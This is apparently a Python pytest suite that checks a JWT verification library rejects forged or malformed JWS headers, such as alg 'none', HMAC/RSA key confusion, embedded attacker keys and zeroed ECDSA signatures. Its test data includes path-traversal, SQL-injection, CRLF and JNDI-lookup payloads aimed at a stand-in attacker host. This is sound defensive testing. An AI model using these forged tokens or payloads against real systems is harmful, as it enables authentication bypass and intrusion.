"""SECURITY-CASES §1: the JWS header (alg, keys, kid, crit, typ)."""

from __future__ import annotations

import base64
import datetime as dt
import hmac
import json

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from fastapi.testclient import TestClient

from authbridge import AuthBridge, ConfigurationError, InvalidToken, OIDCProvider, Principal
from authbridge.jose import import_jwks

from ._support import (
    OMIT,
    T0,
    accepted,
    assert_r401,
    b64,
    bearer,
    claims_at,
    make_app,
    make_token,
    outcomes,
    public_ec_jwk,
    public_rsa_jwk,
    rejected,
    sign_bytes,
    signing_input,
    token_at,
)

ALL_ALGS = (
    "none", "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384",
    "PS512", "ES256", "ES384", "ES512", "EdDSA", "Ed25519", "Ed448",
)  # fmt: skip


# -- alg: none -------------------------------------------------------------------------

NONE_SPELLINGS = ["none", "None", "NONE", "nOnE", "NoNe", " none", "none ", "none\u0000"]


@pytest.mark.parametrize("spelling", NONE_SPELLINGS)
@pytest.mark.parametrize("signature", ["empty", "absent", "garbage", "valid_rs256", "zero"])
def test_alg_none_is_refused(make_auth, fake_issuer, clock, spelling, signature) -> None:
    header = {"alg": spelling, "typ": "at+jwt", "kid": fake_issuer.kid}
    claims = claims_at(fake_issuer, clock)
    data = signing_input(header, claims)
    token = {
        "empty": f"{data}.",
        "absent": data,
        "garbage": f"{data}.{b64(b'not a signature')}",
        # A genuine RS256 signature over this very header and payload.
        "valid_rs256": f"{data}.{b64(sign_bytes('RS256', fake_issuer.key, data.encode()))}",
        "zero": f"{data}.{b64(bytes(256))}",
    }[signature]
    rejected(make_auth(), token)


@pytest.mark.parametrize("token_type", ["strict", "lenient", "id_token"])
def test_alg_none_refused_over_http(make_auth, fake_issuer, token_type) -> None:
    token = fake_issuer.bad.alg_none()
    with TestClient(make_app(make_auth(token_type=token_type))) as client:
        assert_r401(client.get("/items", headers=bearer(token)))
        assert_r401(client.get("/items", headers=bearer(token + "AAAA")))


@pytest.mark.parametrize(
    "alg", [None, "", 0, 1, True, ["RS256"], {"alg": "RS256"}, "rs256", "RS256 ", "RS-256", "RSA"]
)
def test_malformed_alg_values_are_refused(make_auth, fake_issuer, clock, alg) -> None:
    header = {"alg": alg, "typ": "at+jwt", "kid": fake_issuer.kid}
    if alg is None:
        del header["alg"]
    token = make_token(header, claims_at(fake_issuer, clock), fake_issuer.key, alg="RS256")
    assert rejected(make_auth(), token).reason == "algorithm_not_allowed"


def test_none_cannot_be_configured(fake_issuer) -> None:
    for algorithms in (["none"], ["RS256", "none"], ["NONE"]):
        with pytest.raises(ConfigurationError):
            fake_issuer.provider(algorithms=algorithms)


# -- algorithm confusion ----------------------------------------------------------------


def _public_encodings(fake_issuer) -> dict[str, bytes]:
    public = fake_issuer.key.public_key()
    jwk = fake_issuer.jwks()["keys"][0]
    return {
        "pem_spki": public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
        "pem_pkcs1": public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.PKCS1
        ),
        "der_spki": public.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
        "der_pkcs1": public.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.PKCS1
        ),
        "jwk_json": json.dumps(jwk).encode(),
        "jwk_json_compact": json.dumps(jwk, separators=(",", ":")).encode(),
        "jwks_json": json.dumps(fake_issuer.jwks()).encode(),
        "openssh": public.public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
        ),
        "modulus": public.public_numbers().n.to_bytes(256, "big"),
        "pem_no_trailing_newline": public.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        ).rstrip(b"\n"),
    }


ENCODINGS = [
    "pem_spki", "pem_pkcs1", "der_spki", "der_pkcs1", "jwk_json", "jwk_json_compact",
    "jwks_json", "openssh", "modulus", "pem_no_trailing_newline",
]  # fmt: skip


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_hmac_with_public_key_as_secret(make_auth, fake_issuer, clock, encoding, alg) -> None:
    secret = _public_encodings(fake_issuer)[encoding]
    header = {"alg": alg, "typ": "at+jwt", "kid": fake_issuer.kid}
    token = make_token(header, claims_at(fake_issuer, clock), secret)
    assert rejected(make_auth(), token).reason == "algorithm_not_allowed"


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_rsa_key_never_verifies_hmac(fake_issuer, encoding, alg) -> None:
    """Defence in depth: even asked directly, an RSA key refuses HMAC algorithms."""
    (key,) = import_jwks(fake_issuer.jwks()).keys
    data = b"header.payload"
    secret = _public_encodings(fake_issuer)[encoding]
    assert key.verify(alg, data, hmac.digest(secret, data, "sha" + alg[2:])) is False


def test_hmac_confusion_from_test_kit_over_http(make_auth, fake_issuer) -> None:
    with TestClient(make_app(make_auth())) as client:
        assert_r401(client.get("/items", headers=bearer(fake_issuer.bad.hmac_confusion())))


@pytest.mark.parametrize(
    "algorithms",
    [["RS256", "HS256"], ["HS256"], ["ES256", "HS512"], ["HS256", "HS384", "RS256"]],
)
def test_hmac_cannot_be_mixed_into_asymmetric_provider(fake_issuer, algorithms) -> None:
    with pytest.raises(ConfigurationError):
        fake_issuer.provider(algorithms=algorithms)
    with pytest.raises(ConfigurationError):
        OIDCProvider(
            "x", issuer=fake_issuer.issuer, audience="a", hmac_secret=b"s" * 32,
            algorithms=[*algorithms, "RS256"],
        )  # fmt: skip


def test_hmac_provider_refuses_asymmetric_tokens(fake_issuer, clock, upstream) -> None:
    secret = b"k" * 48
    auth = AuthBridge(
        providers=[fake_issuer.provider(hmac_secret=secret)],
        transport=upstream.transport,
        clock=clock,
    )
    good = make_token({"alg": "HS256", "typ": "JWT"}, claims_at(fake_issuer, clock), secret)
    rs = token_at(fake_issuer, clock)
    hs512 = make_token({"alg": "HS512"}, claims_at(fake_issuer, clock), secret)
    wrong_secret = make_token({"alg": "HS256"}, claims_at(fake_issuer, clock), b"x" * 48)
    results = outcomes(auth, [good, rs, hs512, wrong_secret])
    assert results[0].subject == "alice"
    assert [getattr(r, "reason", None) for r in results[1:]] == [
        "algorithm_not_allowed", "algorithm_not_allowed", "bad_signature",
    ]  # fmt: skip
    assert upstream.urls == []  # an HMAC provider never fetches keys


# -- alg vs. key type -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("alg", "signer"),
    [
        ("ES256", "ec"),  # ECDSA signature, RSA kid
        ("ES256", "zeros64"),
        ("ES384", "zeros96"),
        ("EdDSA", "zeros64"),
        ("PS256", "rsa"),  # a *valid* PSS signature: the JWK says alg RS256
        ("PS384", "rsa"),
        ("RS384", "rsa"),  # valid RS384 signature with the RS256-only key
        ("RS512", "rsa"),
    ],
)
def test_alg_must_match_the_key(make_auth, fake_issuer, clock, ec_key, alg, signer) -> None:
    header = {"alg": alg, "typ": "at+jwt", "kid": fake_issuer.kid}
    claims = claims_at(fake_issuer, clock)
    if signer == "rsa":
        token = make_token(header, claims, fake_issuer.key)
    elif signer == "ec":
        token = make_token(header, claims, ec_key, alg="ES256")
    else:
        token = make_token(header, claims, signature=bytes(int(signer[5:])))
    assert rejected(make_auth(), token).reason in {"unknown_key", "bad_signature"}


def test_jwk_alg_narrows_rsa_key(fake_issuer) -> None:
    (key,) = import_jwks(fake_issuer.jwks()).keys
    assert key.algorithms == frozenset({"RS256"})
    data = b"a.b"
    for alg in ("RS384", "RS512", "PS256", "PS384", "PS512"):
        assert key.verify(alg, data, sign_bytes(alg, fake_issuer.key, data)) is False
    assert key.verify("RS256", data, sign_bytes("RS256", fake_issuer.key, data)) is True


@pytest.mark.parametrize("alg", ALL_ALGS)
def test_rsa_key_refuses_foreign_algorithms(fake_issuer, alg) -> None:
    jwk = public_rsa_jwk(fake_issuer.key, "k")  # no "alg": every RSA alg allowed
    (key,) = import_jwks({"keys": [jwk]}).keys
    assert key.algorithms == frozenset({"RS256", "RS384", "RS512", "PS256", "PS384", "PS512"})
    if alg not in key.algorithms:
        assert key.verify(alg, b"a.b", b"\x00" * 256) is False


def _ec_fake(fake_issuer, ec_key, **extra):
    fake_issuer.add_jwk(public_ec_jwk(ec_key, "ec-1", use="sig", **extra))
    return fake_issuer


def test_ec_key_bound_to_its_curve(make_auth, fake_issuer, clock, ec_key) -> None:
    """A P-256 JWK without ``alg`` still only verifies ES256."""
    _ec_fake(fake_issuer, ec_key)
    claims = claims_at(fake_issuer, clock)
    good = make_token({"alg": "ES256", "typ": "at+jwt", "kid": "ec-1"}, claims, ec_key)
    es384 = make_token(
        {"alg": "ES384", "typ": "at+jwt", "kid": "ec-1"}, claims, ec_key, alg="ES384"
    )
    rs_with_ec_kid = make_token(
        {"alg": "RS256", "typ": "at+jwt", "kid": "ec-1"}, claims, fake_issuer.key
    )
    hs_with_ec_x = make_token(
        {"alg": "HS256", "typ": "at+jwt", "kid": "ec-1"},
        claims,
        json.dumps(public_ec_jwk(ec_key, "ec-1")).encode(),
    )
    results = outcomes(make_auth(), [good, es384, rs_with_ec_kid, hs_with_ec_x])
    assert results[0].subject == "alice"
    for result in results[1:]:
        assert isinstance(result, InvalidToken)


# -- empty, truncated, all-zero signatures ----------------------------------------------


def _with_signature(token: str, signature: bytes | str) -> str:
    data = token.rsplit(".", 1)[0]
    sig = signature if isinstance(signature, str) else b64(signature)
    return f"{data}.{sig}"


def _rsa_signature_variants(token: str) -> dict[str, str]:
    sig = base64.urlsafe_b64decode(token.rsplit(".", 1)[1] + "==")
    return {
        "empty": _with_signature(token, ""),
        "one_zero_byte": _with_signature(token, b"\x00"),
        "all_zero": _with_signature(token, bytes(len(sig))),
        "all_ff": _with_signature(token, b"\xff" * len(sig)),
        "truncated_1": _with_signature(token, sig[:-1]),
        "truncated_half": _with_signature(token, sig[: len(sig) // 2]),
        "extended": _with_signature(token, sig + b"\x00"),
        "leading_zero": _with_signature(token, b"\x00" + sig),
        "null_text": _with_signature(token, b"null"),
        "bit_flip": _with_signature(token, bytes([sig[0] ^ 1]) + sig[1:]),
        "one": _with_signature(token, (1).to_bytes(len(sig), "big")),
    }


@pytest.mark.parametrize(
    "variant",
    [
        "empty", "one_zero_byte", "all_zero", "all_ff", "truncated_1", "truncated_half",
        "extended", "leading_zero", "null_text", "bit_flip", "one",
    ],
)  # fmt: skip
def test_broken_rsa_signatures(make_auth, fake_issuer, clock, variant) -> None:
    token = _rsa_signature_variants(token_at(fake_issuer, clock))[variant]
    rejected(make_auth(), token)


P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


@pytest.mark.parametrize(
    "variant",
    [
        "zero_rs", "r_zero", "s_zero", "r_s_order", "r_s_one", "der_encoded", "truncated",
        "extended", "empty", "high_r",
    ],
)  # fmt: skip
def test_psychic_and_broken_ecdsa_signatures(
    make_auth, fake_issuer, clock, ec_key, variant
) -> None:
    _ec_fake(fake_issuer, ec_key, alg="ES256")
    header = {"alg": "ES256", "typ": "at+jwt", "kid": "ec-1"}
    claims = claims_at(fake_issuer, clock)
    good = make_token(header, claims, ec_key)
    raw = base64.urlsafe_b64decode(good.rsplit(".", 1)[1] + "==")
    r, s = raw[:32], raw[32:]
    n = P256_ORDER.to_bytes(32, "big")
    data = good.rsplit(".", 1)[0].encode()
    der = ec_key.sign(data, ec.ECDSA(hashes.SHA256()))
    signature = {
        "zero_rs": bytes(64),
        "r_zero": bytes(32) + s,
        "s_zero": r + bytes(32),
        "r_s_order": n + n,
        "r_s_one": (1).to_bytes(32, "big") * 2,
        "der_encoded": der,
        "truncated": raw[:-1],
        "extended": raw + b"\x00",
        "empty": b"",
        "high_r": b"\xff" * 64,
    }[variant]
    auth = make_auth()
    results = outcomes(auth, [good, _with_signature(good, signature)])
    assert results[0].subject == "alice"
    assert isinstance(results[1], InvalidToken)


# -- embedded keys and key URLs ---------------------------------------------------------

ATTACKER = "https://attacker.example.net"


def _attacker_cert(attacker_key) -> str:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker")])
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(attacker_key.public_key())
        .serial_number(1)
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=1))
        .sign(attacker_key, hashes.SHA256())
    )
    return base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()


def _embedding_headers(fake_issuer, attacker_key) -> dict[str, dict]:
    jwk = public_rsa_jwk(attacker_key, "attacker", alg="RS256", use="sig")
    own_path = f"{fake_issuer.issuer}/attacker-jwks.json"
    return {
        "jwk": {"jwk": jwk},
        "jwk_legit_kid": {"jwk": {**jwk, "kid": fake_issuer.kid}},
        "jku": {"jku": f"{ATTACKER}/jwks.json"},
        "jku_issuer_host": {"jku": own_path},
        "x5u": {"x5u": f"{ATTACKER}/cert.pem"},
        "x5c": {"x5c": [_attacker_cert(attacker_key)]},
        "x5t": {"x5t": b64(b"\x00" * 20), "x5t#S256": b64(b"\x00" * 32)},
        "all": {
            "jwk": jwk,
            "jku": f"{ATTACKER}/jwks.json",
            "x5u": f"{ATTACKER}/cert.pem",
            "x5c": [_attacker_cert(attacker_key)],
        },
    }


EMBEDDINGS = ["jwk", "jwk_legit_kid", "jku", "jku_issuer_host", "x5u", "x5c", "x5t", "all"]


@pytest.mark.parametrize("embedding", EMBEDDINGS)
@pytest.mark.parametrize("kid", ["attacker", "legit", None])
def test_embedded_attacker_keys_are_never_used(
    make_auth, fake_issuer, clock, upstream, attacker_key, embedding, kid
) -> None:
    extra = _embedding_headers(fake_issuer, attacker_key)[embedding]
    header = {
        "alg": "RS256",
        "typ": "at+jwt",
        "kid": {"attacker": "attacker", "legit": fake_issuer.kid, None: OMIT}[kid],
        **extra,
    }
    later = T0 + 60  # past the cooldown: an unknown kid may refetch the *configured* JWKS
    token = make_token(
        {k: v for k, v in header.items() if v is not OMIT},
        claims_at(fake_issuer, clock, iat=later, exp=later + 300),
        attacker_key,
    )
    results = outcomes(make_auth(), [lambda: clock.advance(60), token, token])
    assert all(isinstance(r, InvalidToken) for r in results)
    assert upstream.count("attacker") == 0
    assert set(upstream.urls) <= {
        f"{fake_issuer.issuer}/.well-known/openid-configuration",
        fake_issuer.jwks_uri,
    }


@pytest.mark.parametrize("embedding", EMBEDDINGS)
def test_embedded_headers_ignored_on_genuine_tokens(
    make_auth, fake_issuer, clock, upstream, attacker_key, embedding
) -> None:
    """A genuinely signed token carrying such headers: they are never fetched or used."""
    extra = _embedding_headers(fake_issuer, attacker_key)[embedding]
    (result,) = outcomes(make_auth(), [token_at(fake_issuer, clock, header=extra)])
    # Ignoring or refusing are both safe; fetching is not.
    assert isinstance(result, Principal | InvalidToken)
    if isinstance(result, Principal):
        assert result.issuer == fake_issuer.issuer
    assert upstream.count("attacker") == 0
    assert len(upstream.urls) == 2  # discovery + JWKS at start-up, nothing else


def test_embedded_keys_over_http(make_auth, fake_issuer, clock, upstream, attacker_key) -> None:
    with TestClient(make_app(make_auth())) as client:
        for extra in _embedding_headers(fake_issuer, attacker_key).values():
            header = {"alg": "RS256", "typ": "at+jwt", "kid": "attacker", **extra}
            token = token_at(fake_issuer, clock, header=header, key=attacker_key)
            assert_r401(client.get("/items", headers=bearer(token)))
    assert upstream.count("attacker") == 0


# -- kid of odd types and contents ------------------------------------------------------


@pytest.mark.parametrize("kid", [0, 1, -1, 1.5, True, False, [], ["test-key-1"], {}, {"a": 1}])
def test_kid_of_wrong_type(make_auth, fake_issuer, clock, upstream, kid) -> None:
    # Even with the genuine signature a non-string kid is refused.
    token = token_at(fake_issuer, clock, header={"kid": kid})
    assert rejected(make_auth(), token).reason == "invalid_kid"


def test_kid_null_with_foreign_signature(make_auth, fake_issuer, clock, attacker_key) -> None:
    token = make_token(
        {"alg": "RS256", "typ": "at+jwt", "kid": None}, claims_at(fake_issuer, clock), attacker_key
    )
    assert rejected(make_auth(), token).reason == "bad_signature"


ODD_KIDS = {
    "path": "../../etc/passwd",
    "abs_path": "/etc/passwd",
    "windows_path": "..\\..\\windows\\win.ini",
    "file_url": "file:///etc/passwd",
    "attacker_url": f"{ATTACKER}/jwks.json",
    "sql": "' OR '1'='1' --",
    "sql_union": "x' UNION SELECT key FROM keys --",
    "nul": "test-key-1\u0000",
    "nul_only": "\u0000",
    "nul_prefix": "\u0000test-key-1",
    "crlf": "test-key-1\r\nX-Injected: 1",
    "format": "%s%s%s%n",
    "template": "${jndi:ldap://attacker.example.net/a}",
    "unicode": "tést-kéy-1",
    "rtl": "\u202etest-key-1",
    "empty": "",
    "space": " ",
    "case": "TEST-KEY-1",
    "legit_padded": " test-key-1",
    "dunder": "__class__",
    "huge": "k" * 100_000,
}


@pytest.mark.parametrize("name", list(ODD_KIDS))
@pytest.mark.parametrize("signer", ["attacker", "issuer"])
def test_odd_kid_contents(
    make_auth, fake_issuer, clock, upstream, attacker_key, name, signer
) -> None:
    kid = ODD_KIDS[name]
    key = attacker_key if signer == "attacker" else fake_issuer.key
    later = T0 + 60
    token = make_token(
        {"alg": "RS256", "typ": "at+jwt", "kid": kid},
        claims_at(fake_issuer, clock, iat=later, exp=later + 300),
        key,
    )
    auth = make_auth(max_token_bytes=300_000)
    results = outcomes(auth, [lambda: clock.advance(60), token, token])
    assert [r.reason for r in results] == ["unknown_key", "unknown_key"]
    # The only fetches: discovery and the configured JWKS (start-up + one kid refetch).
    assert upstream.count("attacker") == 0
    assert upstream.urls == [
        f"{fake_issuer.issuer}/.well-known/openid-configuration",
        fake_issuer.jwks_uri,
        fake_issuer.jwks_uri,
    ]


def test_huge_kid_refused_by_default_size_cap(make_auth, fake_issuer, clock) -> None:
    token = token_at(fake_issuer, clock, header={"kid": "k" * 100_000})
    assert rejected(make_auth(), token).reason == "token_too_large"


# -- crit, b64 and friends --------------------------------------------------------------


@pytest.mark.parametrize(
    "extra",
    [
        {"crit": ["exp"]},
        {"crit": ["b64"], "b64": False},
        {"crit": ["unknown-ext"], "unknown-ext": 1},
        {"crit": []},
        {"crit": "exp"},
        {"crit": None},
        {"crit": {}},
        {"crit": [1]},
        {"crit": ["alg"]},
        {"b64": False},
        {"b64": True},
        {"enc": "A256GCM"},
        {"zip": "DEF"},
    ],
    ids=json.dumps,
)
def test_unsupported_header_parameters(make_auth, fake_issuer, clock, extra) -> None:
    token = token_at(fake_issuer, clock, header=extra)
    assert rejected(make_auth(), token).reason.startswith("unsupported_header:")


def test_unencoded_payload_is_refused(make_auth, fake_issuer, clock) -> None:
    """RFC 7797: b64=false with a detached/raw payload never parses as a JWT."""
    header = {
        "alg": "RS256",
        "typ": "at+jwt",
        "kid": fake_issuer.kid,
        "b64": False,
        "crit": ["b64"],
    }
    payload = json.dumps(claims_at(fake_issuer, clock))
    data = f"{b64(json.dumps(header).encode())}.{payload}"
    sig = b64(sign_bytes("RS256", fake_issuer.key, data.encode()))
    for token in (f"{data}.{sig}", f"{data.split('.', maxsplit=1)[0]}..{sig}"):
        rejected(make_auth(), token)


# -- cty: nested JWTs (RFC 7519 §5.2, §7.2) ----------------------------------------------

NESTED_CTY = [
    "JWT", "jwt", "Jwt", "application/jwt", "APPLICATION/JWT", "Application/Jwt", " JWT",
    "JWT\t", "JWT; charset=utf-8", "jwt;", "at+jwt", "application/at+jwt", "secevent+jwt",
    "text/jwt",
]  # fmt: skip
NOT_A_MEDIA_TYPE = [
    None, 1, True, [], ["JWT"], {"cty": "JWT"}, "", " ", ";", "JWT\u0000", "J WT", "application/",
    "/jwt", "application/jwt/x", "\uff2a\uff37\uff34", "jw\u0131t", "application/ jwt", "*/*",
]  # fmt: skip
OTHER_CTY = ["json", "application/json", "JSON; charset=utf-8", "text/plain", "example+json"]


@pytest.mark.parametrize("cty", NESTED_CTY)
def test_nested_jwt_content_type_is_refused(make_auth, fake_issuer, clock, cty) -> None:
    token = token_at(fake_issuer, clock, header={"cty": cty})
    assert rejected(make_auth(), token).reason == "nested_jwt_not_accepted"


@pytest.mark.parametrize("cty", NOT_A_MEDIA_TYPE, ids=repr)
def test_cty_that_is_not_a_media_type_is_refused(make_auth, fake_issuer, clock, cty) -> None:
    token = token_at(fake_issuer, clock, header={"cty": cty})
    assert rejected(make_auth(), token).reason == "invalid_cty"


@pytest.mark.parametrize("cty", OTHER_CTY)
def test_other_content_types_are_tolerated(make_auth, fake_issuer, clock, cty) -> None:
    """The payload is read as a claims set whatever they say; some issuers send one."""
    accepted(make_auth(), token_at(fake_issuer, clock, header={"cty": cty}))


def test_genuinely_nested_jwt_is_refused(make_auth, fake_issuer, clock) -> None:
    """An outer JWS whose payload is itself a signed JWT, as RFC 7519 §A.2 nests them."""
    inner = token_at(fake_issuer, clock)
    header = {"alg": "RS256", "typ": "at+jwt", "kid": fake_issuer.kid}
    for cty, payload in (("JWT", inner.encode()), ("JWT", json.dumps(inner).encode())):
        token = make_token({**header, "cty": cty}, payload, fake_issuer.key)
        assert isinstance(rejected(make_auth(), token), InvalidToken)
    # Without cty the payload is no JSON object either: never unwrapped.
    plain = make_token(header, inner.encode(), fake_issuer.key)
    assert rejected(make_auth(), plain).reason == "malformed_payload"


def test_nested_jwt_refused_over_http(make_auth, fake_issuer, clock) -> None:
    with TestClient(make_app(make_auth())) as client:
        for cty in ("JWT", "application/jwt", 7):
            token = token_at(fake_issuer, clock, header={"cty": cty})
            assert_r401(client.get("/items", headers=bearer(token)))
        assert client.get("/items", headers=bearer(token_at(fake_issuer, clock))).status_code == 200


# -- typ ---------------------------------------------------------------------------------

STRICT_OK = ["at+jwt", "AT+JWT", "At+Jwt", "application/at+jwt", "Application/AT+JWT"]
LENIENT_ONLY = [None, "JWT", "jwt", "application/jwt", "APPLICATION/JWT"]
ALWAYS_BAD = [
    "", " at+jwt", "at+jwt ", "at+jwt\u0000", "dpop+jwt", "secevent+jwt", "logout+jwt",
    "id_token", "JWE", "jose", "jose+json", "application/jose", "application/at+jwt; x=1",
    "at+jwt,jwt", "text/plain", "application/jwt+at",
]  # fmt: skip
WRONG_TYPE_VALUES = [1, True, ["at+jwt"], {"typ": "at+jwt"}]


@pytest.mark.parametrize("typ", STRICT_OK + LENIENT_ONLY + ALWAYS_BAD + WRONG_TYPE_VALUES)
def test_typ_in_strict_mode(make_auth, fake_issuer, clock, typ) -> None:
    token = token_at(fake_issuer, clock, header={"typ": OMIT if typ is None else typ})
    result = outcomes(make_auth(token_type="strict"), [token])[0]
    if typ in STRICT_OK:
        assert result.subject == "alice"
    else:
        assert isinstance(result, InvalidToken)
        assert result.reason in {"wrong_token_type", "invalid_typ"}


@pytest.mark.parametrize("typ", STRICT_OK + LENIENT_ONLY + ALWAYS_BAD + WRONG_TYPE_VALUES)
def test_typ_in_lenient_mode(make_auth, fake_issuer, clock, typ) -> None:
    token = token_at(fake_issuer, clock, header={"typ": OMIT if typ is None else typ})
    result = outcomes(make_auth(token_type="lenient"), [token])[0]
    if typ in STRICT_OK or typ in LENIENT_ONLY:
        assert result.subject == "alice"
    else:
        assert isinstance(result, InvalidToken)
        assert result.reason in {"wrong_token_type", "invalid_typ"}


@pytest.mark.parametrize("typ", STRICT_OK + LENIENT_ONLY + ALWAYS_BAD)
def test_typ_in_id_token_mode(make_auth, fake_issuer, clock, typ) -> None:
    """An access token (typ at+jwt) is not an ID token, and vice versa."""
    token = token_at(fake_issuer, clock, header={"typ": OMIT if typ is None else typ})
    result = outcomes(make_auth(token_type="id_token"), [token])[0]
    if typ in LENIENT_ONLY:
        assert result.subject == "alice"
    else:
        assert isinstance(result, InvalidToken)
        assert result.reason == "wrong_token_type"


def _id_token_claims(fake_issuer, clock, **extra):
    claims = {
        "aud": "spa-client",
        "azp": "spa-client",
        "nonce": "n-0S6_WzA2Mj",
        "at_hash": "77QmUPtjPfzWtF2AnpK9RQ",
        "auth_time": int(clock.now) - 5,
        "client_id": OMIT,
        "scope": OMIT,
    }
    return claims_at(fake_issuer, clock, **{**claims, **extra})


@pytest.mark.parametrize("mode", ["strict", "lenient"])
def test_provider_id_token_presented_as_access_token(make_auth, fake_issuer, clock, mode) -> None:
    header = {"alg": "RS256", "typ": "JWT", "kid": fake_issuer.kid}
    id_token = make_token(header, _id_token_claims(fake_issuer, clock), fake_issuer.key)
    assert rejected(make_auth(token_type=mode), id_token).reason in {
        "wrong_token_type",
        "audience_mismatch",
    }
    # Even when the ID token happens to name the API as its audience, strict mode
    # refuses it by typ.
    aimed = make_token(
        header, _id_token_claims(fake_issuer, clock, aud=fake_issuer.audience), fake_issuer.key
    )
    if mode == "strict":
        assert rejected(make_auth(token_type=mode), aimed).reason == "wrong_token_type"


@pytest.mark.parametrize(
    "typ_claim", ["ID", "id", "Refresh", "refresh", "Offline", "Logout", "ID_TOKEN"]
)
@pytest.mark.parametrize("mode", ["strict", "lenient"])
def test_keycloak_style_typ_claim(make_auth, fake_issuer, clock, typ_claim, mode) -> None:
    token = token_at(fake_issuer, clock, typ=typ_claim)
    result = rejected(make_auth(token_type=mode), token)
    assert result.reason == "wrong_token_type"
    assert result.claim == "typ"


# A `typ` claim is not registered by RFC 7519; only the values naming other token
# kinds are refused, so providers using the claim for something else keep working.
@pytest.mark.parametrize("typ_claim", ["Bearer", "bearer", "at+jwt", "", "custom", 1, True, ["x"]])
def test_other_typ_claim_values_accepted(make_auth, fake_issuer, clock, typ_claim) -> None:
    assert accepted(make_auth(), token_at(fake_issuer, clock, typ=typ_claim)).subject == "alice"


def test_keycloak_refresh_token_over_http(make_auth, fake_issuer, clock) -> None:
    refresh = token_at(
        fake_issuer, clock, header={"typ": "JWT"}, typ="Refresh", aud=fake_issuer.issuer
    )
    same_aud = token_at(fake_issuer, clock, header={"typ": "JWT"}, typ="Refresh")
    with TestClient(make_app(make_auth())) as client:
        assert_r401(client.get("/items", headers=bearer(refresh)))
        assert_r401(client.get("/items", headers=bearer(same_aud)))


def test_valid_token_sanity(make_auth, fake_issuer, clock) -> None:
    """The baseline the negative cases above deviate from is itself accepted."""
    principal = accepted(make_auth(token_type="strict"), token_at(fake_issuer, clock))
    assert principal.subject == "alice"
    assert principal.expires_at.timestamp() == T0 + 300


@pytest.mark.parametrize("secret", [b"", b"x", b"s" * 31, "short-secret"])
def test_short_hmac_secret_is_a_configuration_error(fake_issuer, secret) -> None:
    with pytest.raises(ConfigurationError):
        fake_issuer.provider(hmac_secret=secret)
